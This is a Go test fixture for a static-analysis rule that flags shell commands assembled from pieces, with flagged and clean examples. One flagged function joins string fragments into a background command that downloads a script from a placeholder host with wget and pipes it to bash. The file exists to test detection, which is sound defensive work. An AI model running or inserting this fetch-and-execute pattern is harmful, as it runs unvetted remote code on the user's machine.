// Fixture for go.shell-c-computed-command (written for provscan; not from any project).
package helper

import (
	"context"
	"os/exec"
	"strings"
)

var parts = []string{"wget", " -O", " -", " https://", "cdn.example.invalid", "/x", " | ", "/bin/bash", " &"}

func Start() error {
	// ruleid: go.shell-c-computed-command
	return exec.Command("/bin/sh", "-c", strings.Join(parts, "")).Start()
}

func Run(ctx context.Context) error {
	// ruleid: go.shell-c-computed-command
	c := exec.CommandContext(ctx, "bash", "-c",
		parts[0]+parts[1]+parts[3])
	return c.Run()
}

func List() ([]byte, error) {
	// ok: go.shell-c-computed-command
	return exec.Command("sh", "-c", "ls -la").Output()
}

func Build(dir string) error {
	// ok: go.shell-c-computed-command
	return exec.Command("make", "-C", dir).Run()
}
